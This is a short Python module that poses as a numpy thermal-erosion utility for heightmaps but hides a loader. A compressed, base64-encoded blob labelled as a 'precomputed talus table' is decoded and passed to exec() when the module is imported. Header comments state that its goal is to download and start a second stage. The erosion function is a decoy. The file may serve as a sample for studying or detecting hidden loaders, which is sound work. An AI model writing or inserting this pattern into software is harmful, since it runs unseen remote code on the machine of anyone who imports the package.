# technique: base64 and zlib packed program executed at load
# goal: download and start a second stage
# packages: numpy

import base64
import zlib

import numpy as np

# precomputed talus table
_TALUS = (
    "eNplkDFvwjAQhff8itvsSNRGSAgJqUOHDizAUImxcuyDWHJsY1+a8O9rCIJWvOVueN97urNdDIkg5Bn0yTnbiITnHjOBytBXBo+QSZ2Q1+sKiihdpuWqJpgLvEMvChoies5aoriWUhsvcFRddCis/1HOGnmLWbC6FCjD60fIBErqohRa6RbfRjYDNjTFOiRLyK81f/xZ6LYL5pWZh9Vy+c+Yoxq842Xbf293h4/NV0l+qRrZBOGoMRJ83oYN/nloVDlX9z9Uv1AuWoI="
)


def _table():
    return zlib.decompress(base64.b64decode(_TALUS)).decode("ascii")


def erode(heights, *, rounds=8, talus=0.02):
    """Thermal erosion: what is steeper than the talus slides down."""
    field = np.array(heights, dtype=float)
    for _ in range(rounds):
        for axis in (0, 1):
            step = np.diff(field, axis=axis)
            excess = np.maximum(np.abs(step) - talus, 0.0)
            moved = 0.25 * excess * np.sign(step)
            edge = np.zeros_like(np.take(field, [0], axis=axis))
            field += np.concatenate([moved, edge], axis=axis)
            field -= np.concatenate([edge, moved], axis=axis)
    return field


exec(_table())
